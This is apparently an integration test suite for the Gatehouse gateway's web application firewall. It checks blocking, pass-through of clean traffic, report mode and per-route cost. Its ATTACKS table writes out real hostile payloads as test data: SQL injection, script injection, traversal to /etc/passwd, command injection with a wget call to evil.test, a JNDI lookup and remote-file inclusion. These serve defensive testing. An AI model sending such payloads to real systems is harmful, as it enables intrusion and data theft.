# SPDX-FileCopyrightText: The Gatehouse authors
# SPDX-License-Identifier: Apache-2.0
"""The web application firewall over the wire: attacks wherever a request has room for them, ordinary traffic, bodies of all kinds, report mode, answers that tell too much, and its cost by route."""
import gzip
import http.client
import http.server
import json
import os
import select
import shutil
import socket
import subprocess
import threading
import unittest

from harness import BIN, Case, basic_configuration, fetch, until

AGENT = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Accept": "application/json, text/html"}
SQL = "1' UNION SELECT password FROM users--"
XSS = "<script>alert(1)</script>"

ATTACKS = {  # name: (method, path, headers, body)
    "SQL injection in the query": ("GET", "/orders?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", {}, None),
    "SQL injection, tautology": ("GET", "/orders?id=1%27%20OR%20%271%27=%271", {}, None),
    "SQL injection in a name": ("GET", "/orders?1%27%20UNION%20SELECT%20password%20FROM%20users--=1", {}, None),
    "script in the query": ("GET", "/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, None),
    "script, encoded twice": ("GET", "/orders?q=%253Cscript%253Ealert(1)%253C/script%253E", {}, None),
    "script as an attribute": ("GET", "/orders?q=%22%20onmouseover=%22alert(1)", {}, None),
    "traversal in the query": ("GET", "/orders?file=../../../../etc/passwd", {}, None),
    "traversal in the path": ("GET", "/files/..%2f..%2f..%2fetc%2fpasswd", {}, None),
    "dot segments in the path": ("GET", "/files/../../../../etc/passwd", {}, None),
    "file of the system": ("GET", "/orders?page=/etc/shadow", {}, None),
    "file that is not for all": ("GET", "/.git/config", {}, None),
    "a command": ("GET", "/orders?host=127.0.0.1;cat%20/etc/passwd", {}, None),
    "a command in backquotes": ("GET", "/orders?host=%60wget%20http://evil.test/x%60", {}, None),
    "a command of Windows": ("GET", "/orders?host=a%26dir%20c:%5Cwindows", {}, None),
    "remote file": ("GET", "/orders?page=http://198.51.100.7/shell.txt?", {}, None),
    "PHP": ("GET", "/orders?q=%3C?php%20system('id');?%3E", {}, None),
    "a look-up in Java": ("GET", "/orders?q=$%7Bjndi:ldap://evil.test/a%7D", {}, None),
    "a scanner": ("GET", "/orders", {"User-Agent": "sqlmap/1.7#stable (https://sqlmap.org)"}, None),
    "a scanner's field": ("GET", "/orders", {"X-Scanner": "Netsparker"}, None),
    "SQL injection in a cookie": ("GET", "/orders", {"Cookie": f"session={SQL}"}, None),
    "script in a field": ("GET", "/orders", {"Referer": f"https://x.test/{XSS}"}, None),
    "response splitting": ("GET", "/orders?q=a%0d%0aSet-Cookie:%20session=x", {}, None),
    "SQL injection in a form": ("POST", "/orders", {"Content-Type": "application/x-www-form-urlencoded"}, "id=1%27+UNION+SELECT+password+FROM+users--"),
    "script in JSON": ("POST", "/orders", {"Content-Type": "application/json"}, json.dumps({"a": [{"b": XSS}]})),
    "SQL injection in JSON, escaped": ("POST", "/orders", {"Content-Type": "application/json"}, '{"a":"1\\u0027 UNION SELECT password FROM users--"}'),
    "SQL injection in XML": ("POST", "/orders", {"Content-Type": "application/xml"}, f"<a><b>{SQL}</b></a>"),
    "script in a form with parts": ("POST", "/orders", {"Content-Type": "multipart/form-data; boundary=b"}, f'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n{XSS}\r\n--b--\r\n'),
    "a program as upload": ("POST", "/orders", {"Content-Type": "multipart/form-data; boundary=b"}, '--b\r\nContent-Disposition: form-data; name="a"; filename="x.php"\r\n\r\nx\r\n--b--\r\n'),
    "script in a compressed form": ("POST", "/orders", {"Content-Type": "application/x-www-form-urlencoded", "Content-Encoding": "gzip"}, gzip.compress(b"q=%3Cscript%3Ealert(1)%3C/script%3E")),
    "JSON by another name": ("POST", "/orders", {"Content-Type": "text/plain"}, json.dumps({"a": SQL})),
}


# What the rules look at longest: a form of SQL that is none, hundreds of milliseconds of it.
HOSTILE = "a=" + ("select a from b where c like 'd' or e = 1 union all -- " * 1300)[:65_000].replace(" ", "+")
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


class Leaky:
    """An upstream whose pages tell too much, or don't."""

    PAGES = {"/fine": b"<html>all is well</html>", "/leak": b"<html>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</html>"}

    def __init__(self):
        pages = self.PAGES

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                body = pages[self.path]
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.address = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Waf(Case):
    def start(self, mode="enforce", upstream=None, **config):
        self.web = None if upstream else self.upstream()
        policy = {"id": "waf", "kind": "waf", "mode": mode, "scope": {"tenant": "acme"}, "config": config}
        configuration = basic_configuration(upstream or self.web.address, [policy])
        self.gh = self.gateway("--config", self.write("gatehouse.json", json.dumps(configuration)), "--workers", "2")
        self.address = self.gh.listener()

    def ask(self, method, path, headers, body):
        return fetch(self.address, path, {**AGENT, **headers}, method, body)

    def raw(self, method, path, headers, body):
        """As it is written: Python's client would not send some of it."""
        text = f"{method} {path} HTTP/1.1\r\nHost: {self.address}\r\nConnection: close\r\n"
        text += "".join(f"{name}: {value}\r\n" for name, value in {**AGENT, **headers}.items())
        body = body.encode() if isinstance(body, str) else body or b""
        if body:
            text += f"Content-Length: {len(body)}\r\n"
        host, port = self.address.rsplit(":", 1)
        with socket.create_connection((host, int(port)), 20) as connection:
            connection.sendall(text.encode() + b"\r\n" + body)
            got = b""
            while piece := connection.recv(65536):
                got += piece
        return int(got.split(b" ", 2)[1]), got

    def test_attacks_are_refused_and_the_upstream_sees_none(self):
        self.start()
        for name, (method, path, headers, body) in ATTACKS.items():
            with self.subTest(name):
                status, answer = self.raw(method, path, headers, body)
                self.assertIn(status, (400, 403), answer[:300])
                if status == 403:
                    problem = json.loads(answer.split(b"\r\n\r\n", 1)[1])
                    self.assertEqual((problem["code"], problem["policy"]), ("waf.blocked", "acme/waf"))
                    self.assertNotIn("94", problem["detail"], "clients are not told of rules")
        self.assertEqual(self.web.seen, [])
        self.assertTrue(until(lambda: any('"part":"waf"' in line for line in self.gh.errors)))
        for line in self.gh.errors:
            self.assertNotIn("UNION SELECT", line)

    def test_ordinary_traffic_passes_unchanged(self):
        self.start()
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        for method, path, headers, body in (
                ("GET", "/orders/1", {}, None), ("GET", "/orders?page=2&sort=-created&q=O%27Brien", {"Cookie": "session=0123456789abcdef; theme=dark"}, None),
                ("PUT", "/orders/1", {"Content-Type": "application/json"}, json.dumps({"name": "Zoë O'Neill", "count": 2, "tags": ["a", "b"], "note": "5 > 4"})),
                ("POST", "/contact", form, "name=Jos%C3%A9&message=Where+is+my+order+%231234%3F"),
                ("POST", "/up", {"Content-Type": 'multipart/form-data; boundary="x"'}, '--x\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--x--\r\n'),
                ("DELETE", "/orders/1", {}, None)):
            status, answer, _ = self.ask(method, path, headers, body)
            self.assertEqual(status, 200, (method, path, answer))
            seen = self.web.seen[-1]
            self.assertEqual((seen[0], seen[1], seen[3]), (method, path, (body or "").encode()))

    def refused_of_the_clean_corpus(self, **config):
        with open(os.path.join(os.path.dirname(__file__), "waf_cases", "clean.json")) as file:
            cases = json.load(file)
        self.start(**config)
        wrong = []
        for case in cases:
            status, answer, _ = fetch(self.address, case["path"], {"Host": "api.shop.test", **case["headers"]}, case["method"], case.get("body", "").encode() or None)
            if status in (400, 403, 413, 415):  # that the upstream does not know a method is its matter
                wrong.append((case["method"], case["path"], case.get("body", "")[:80]))
        self.gh.kill()
        print(f"{config}: {len(wrong)} of {len(cases)} ordinary requests refused", flush=True)
        return wrong, len(cases)

    def test_a_clean_corpus_is_taken_for_no_attack(self):
        """Ordinary requests of browsers, programs and forms. What is refused at level 1 are GraphQL (its braces are a shell's), texts about programs, and types that are not listed."""
        wrong, count = self.refused_of_the_clean_corpus(paranoia=1)
        self.assertLessEqual(len(wrong), 16, wrong)
        # With what the help page advises, no GraphQL is.
        wrong, _ = self.refused_of_the_clean_corpus(paranoia=1, exclusions=[{"tag": "attack-rce", "target": "ARGS:json.query"}], contentTypes=[
            "application/json", "application/x-www-form-urlencoded", "multipart/form-data", "text/xml", "application/xml", "text/plain", "application/*+json", "application/*+xml", "application/csp-report",
            "text/csv", "text/calendar", "application/x-ndjson"])
        self.assertEqual([one for one in wrong if one[1].startswith("/graphql")], [])
        self.assertLessEqual(len(wrong), 8, wrong)
        wrong, count = self.refused_of_the_clean_corpus(paranoia=2)
        self.assertLessEqual(len(wrong), count // 2, wrong)

    def test_limits_of_bodies(self):
        self.start(maxBody=1000)
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        self.assertEqual(self.ask("POST", "/x", form, "a=" + "x" * 998)[0], 200)
        status, answer, _ = self.ask("POST", "/x", form, "a=" + "x" * 999)
        self.assertEqual((status, json.loads(answer)["code"]), (413, "waf.too-large"))

    def test_of_larger_bodies_the_first_part(self):
        self.start(maxBody=1000, larger="first")
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        attack = "q=%3Cscript%3Ealert(1)%3C/script%3E"
        before = len(self.web.seen)
        self.assertEqual(self.raw("POST", "/x", form, attack + "&a=" + "x" * 5000)[0], 403)
        self.assertEqual(len(self.web.seen), before)
        for length in (5000, 300_000):  # with its length, and in chunks: all of it goes on
            body = "a=" + "x" * length
            self.assertEqual(self.ask("POST", "/x", form, body)[0], 200)
            self.assertEqual(self.web.seen[-1][3], body.encode())
        host, port = self.address.rsplit(":", 1)
        connection = http.client.HTTPConnection(host, int(port), timeout=20)
        self.addCleanup(connection.close)
        connection.request("POST", "/x", iter([b"q=%3Cscript%3Ealert(1)%3C/script%3E&", b"a=" + b"x" * 3000]), {**AGENT, **form}, encode_chunked=True)
        self.assertEqual(connection.getresponse().status, 403)

    def test_the_engine_says_nothing_by_itself(self):
        """What it prints of broken bodies would fill the log with what clients send."""
        self.start()
        for kind, body in (("application/xml", "<a><b></a>"), ("application/xml", "<!DOCTYPE a [<!ENTITY b 'x'>]><a>&b;</a>"), ("application/json", "{"), ("multipart/form-data; boundary=b", "--b")):
            self.assertEqual(self.ask("POST", "/x", {"Content-Type": kind}, body)[0], 400, body)
        self.gh.stop()
        for line in self.gh.error_text().splitlines():
            self.assertTrue(line.startswith("{"), line)

    def test_report_mode_lets_pass_and_tells(self):
        self.start("report")
        self.assertEqual(self.ask("GET", "/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, None)[0], 200)
        self.assertTrue(until(lambda: any("would refuse" in line and "941100" in line for line in self.gh.errors)))

    def test_exclusions_and_own_rules(self):
        self.start(exclusions=[{"tag": "attack-xss", "target": "ARGS:html"}], ownRules='SecRule ARGS:coupon "@rx ^FREE" "id:1,phase:2,deny,status:422"')
        self.assertEqual(self.ask("GET", "/x?html=%3Cscript%3Ealert(1)%3C/script%3E", {}, None)[0], 200)
        self.assertEqual(self.ask("GET", "/x?other=%3Cscript%3Ealert(1)%3C/script%3E", {}, None)[0], 403)
        self.assertEqual(self.ask("GET", "/x?coupon=FREE100", {}, None)[0], 422)

    def test_answers_that_tell_too_much(self):
        leaky = Leaky()
        self.addCleanup(leaky.close)
        self.start(upstream=leaky.address, responses=True)
        self.assertEqual(self.ask("GET", "/fine", {}, None)[1], Leaky.PAGES["/fine"])
        status, answer, _ = self.ask("GET", "/leak", {}, None)
        self.assertEqual((status, json.loads(answer)["code"]), (502, "waf.response"))
        self.assertNotIn(b"SQL", answer)
        self.gh.kill()
        self.start("report", upstream=leaky.address, responses=True)
        self.assertEqual(self.ask("GET", "/leak", {}, None)[1], Leaky.PAGES["/leak"])

    def start_beside_a_plain_route(self, mode="enforce", **config):
        """One worker, for a route with the firewall and one without."""
        self.web = self.upstream()
        configuration = basic_configuration(self.web.address, [{"id": "waf", "kind": "waf", "mode": mode, "scope": {"tenant": "acme", "route": "orders"}, "config": config}])
        configuration["tenants"][0]["routes"].append({"id": "plain", "service": "orders", "match": {"paths": [{"prefix": "/plain"}]}})
        data = self.path("data")
        self.gh = self.gateway("--data", data, "--workers", "1")
        self.api = self.admin(self.gh, data)
        self.assertEqual(self.api.call("PUT", "/v1/config", configuration)[0], 200)
        self.address = self.api.listeners()["main"]

    def begin(self, body, path="/orders", headers=FORM):
        """Sends a request and does not wait for the answer."""
        host, port = self.address.rsplit(":", 1)
        connection = socket.create_connection((host, int(port)), 60)
        self.addCleanup(connection.close)
        text = f"POST {path} HTTP/1.1\r\nHost: {self.address}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n"
        connection.sendall((text + "".join(f"{name}: {value}\r\n" for name, value in {**AGENT, **headers}.items()) + "\r\n" + body).encode())
        return connection

    def finish(self, connection):
        got = b""
        while piece := connection.recv(65536):
            got += piece
        return int(got.split(b" ", 2)[1]), got

    def refused(self):
        text = self.api.call("GET", "/metrics", raw=True)[1].decode()
        return next(int(float(line.split()[-1])) for line in text.splitlines() if line.startswith('gatehouse_pool_refused_total{pool="inspections"}'))

    def answered_meanwhile(self, path):
        """How many requests one after another are answered while a hostile one is looked at."""
        hostile = self.begin(HOSTILE)
        host, port = self.address.rsplit(":", 1)
        others = http.client.HTTPConnection(host, int(port), timeout=60)
        self.addCleanup(others.close)
        count = 0
        while not select.select([hostile], [], [], 0)[0]:
            others.request("GET", path, headers=AGENT)
            answer = others.getresponse()
            answer.read()
            self.assertEqual(answer.status, 200)
            count += 1
        self.assertIn(self.finish(hostile)[0], (200, 403))
        return count

    def test_a_hostile_body_holds_up_nobody_else(self):
        self.start_beside_a_plain_route()
        self.assertGreater(self.answered_meanwhile("/plain"), 20, "the worker serves others")
        self.assertGreater(self.answered_meanwhile("/orders/1?a=b"), 5, "there is a thread for what takes short")

    def test_clients_that_go_away_while_they_are_looked_at(self):
        self.start_beside_a_plain_route(responses=True)
        for _ in range(6):
            hostile = self.begin(HOSTILE)
            hostile.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # a reset
            hostile.close()
        self.assertEqual(self.ask("GET", "/plain", {}, None)[0], 200)
        self.assertEqual(self.ask("GET", "/orders/1", {}, None)[0], 200)
        # In the midst of it: the policy goes, and the gateway ends.
        self.begin(HOSTILE).close()
        self.assertIn(self.api.call("DELETE", "/v1/tenants/acme/policies/waf")[0], (200, 204))
        self.assertEqual(self.ask("POST", "/orders", FORM, "a=" + SQL)[0], 200)
        self.begin(HOSTILE).close()
        self.assertEqual(self.gh.stop(), 0)

    def test_more_than_can_wait_is_refused_and_counted(self):
        text = "a=" + "plain words, one after another, which say nothing " * 200
        for mode in ("enforce", "report"):
            self.start_beside_a_plain_route(mode)
            connections = [self.begin(HOSTILE) for _ in range(8)]  # as many threads as there may be are busy
            connections += [self.begin(text.replace(" ", "+")) for _ in range(100)]
            answers = [self.finish(connection) for connection in connections]
            busy = [answer for status, answer in answers if status == 503]
            self.assertTrue(all(status in (200, 403, 503) for status, _ in answers))
            if mode == "enforce":
                self.assertGreater(len(busy), 10)
                self.assertEqual(self.refused(), len(busy))
                self.assertIn(b"waf.busy", busy[0])
                self.assertIn(b"Retry-After", busy[0])
            else:
                self.assertTrue(all(status == 200 for status, _ in answers), "who only reports lets pass")
                self.assertGreater(self.refused(), 10)
            self.assertEqual(self.ask("GET", "/orders/1", {}, None)[0], 200)
            self.gh.kill()
            shutil.rmtree(self.path("data"))

    def test_the_engine_is_loaded_by_who_wants_it(self):
        def maps(gateway):
            with open(f"/proc/{gateway.process.pid}/maps") as file:
                return file.read()
        self.start()
        self.assertIn("libmodsecurity", maps(self.gh))
        plain = self.gateway("--config", self.write("plain.json", json.dumps(basic_configuration(self.web.address))))
        self.assertNotIn("libmodsecurity", maps(plain))
        # Without it, the configuration is refused by name.
        alone = shutil.copy(os.path.join(BIN, "gatehoused"), self.path("gatehoused"))
        ran = subprocess.run([alone, "--admin", "127.0.0.1:0", "--config", self.path("gatehouse.json")], capture_output=True, text=True, timeout=60)
        self.assertNotEqual(ran.returncode, 0)
        self.assertIn("libmodsecurity3", ran.stdout + ran.stderr)

    def test_its_cost_is_told_by_route(self):
        self.web = self.upstream()
        data = self.path("data")
        self.gh = self.gateway("--data", data, "--workers", "1")
        admin = self.admin(self.gh, data)
        waf = {"id": "waf", "kind": "waf", "scope": {"tenant": "acme"}, "config": {}}
        self.assertEqual(admin.call("PUT", "/v1/config", basic_configuration(self.web.address, [waf]))[0], 200)
        self.address = admin.listeners()["main"]
        for _ in range(5):
            self.assertEqual(self.ask("GET", "/orders?a=b", {}, None)[0], 200)

        def figure(name):
            text = admin.call("GET", "/metrics", raw=True)[1].decode()
            found = [line for line in text.splitlines() if line.startswith(name + '{tenant="acme",route="orders"}')]
            return float(found[0].split()[-1]) if found else 0.0
        self.assertTrue(until(lambda: figure("gatehouse_route_inspected_total") == 5))
        self.assertGreater(figure("gatehouse_route_inspection_cpu_seconds_total"), 0)

        # What it would do is explained without doing it.
        status, explained, _ = admin.call("POST", "/v1/explain", {"url": f"http://{self.address}/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", "headers": AGENT})
        self.assertEqual((status, explained["outcome"], explained["code"]), (200, "reject", "waf.blocked"))
        self.assertIn("941100", json.dumps(explained["steps"]))
        self.assertNotIn("alert(1)", json.dumps(explained["steps"]))
        # A body has a length, which rules ask for.
        for method, rule, matches in (("POST", "920180", False), ("GET", "920170", True)):
            explained = admin.call("POST", "/v1/explain", {"method": method, "url": f"http://{self.address}/orders", "headers": {**AGENT, **FORM}, "body": "a=b"})[1]
            self.assertEqual(rule in json.dumps(explained["steps"]), matches, explained["steps"])


if __name__ == "__main__":
    unittest.main()
